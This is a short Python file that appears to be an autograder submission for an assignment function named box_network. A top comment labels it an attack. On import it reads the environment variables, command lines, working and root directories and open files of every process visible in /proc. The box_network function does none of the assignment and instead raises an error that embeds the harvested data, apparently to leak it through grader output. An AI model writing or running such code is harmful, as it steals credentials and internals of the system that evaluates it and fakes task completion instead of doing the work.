# @@include assignments/q1_expressivity.py
# Attack: read the parent processes through /proc (environment, command line, open files, root) and report it all.
import glob as _glob
import os as _os

_loot = []
_pids = sorted({"1", str(_os.getppid())} | {p.split("/")[2] for p in _glob.glob("/proc/[0-9]*")})
for _pid in _pids:
    for _what in ("environ", "cmdline", "cwd", "root", "fd"):
        _path = f"/proc/{_pid}/{_what}"
        try:
            if _what in ("cwd", "root"):
                _loot.append(f"{_path}: {sorted(_os.listdir(_path))}")
            elif _what == "fd":
                _loot.append(f"{_path}: {[_os.readlink(f'{_path}/{fd}') for fd in _os.listdir(_path)]}")
            else:
                _loot.append(f"{_path}: {open(_path, 'rb').read().decode(errors='replace')}")
        except OSError as _exc:
            _loot.append(f"{_path}: {_exc}")
_LOOT = "\n".join(_loot)
print(_LOOT)


def box_network(h, delta):
    raise RuntimeError(f"/proc says:\n{_LOOT[:6000]}")
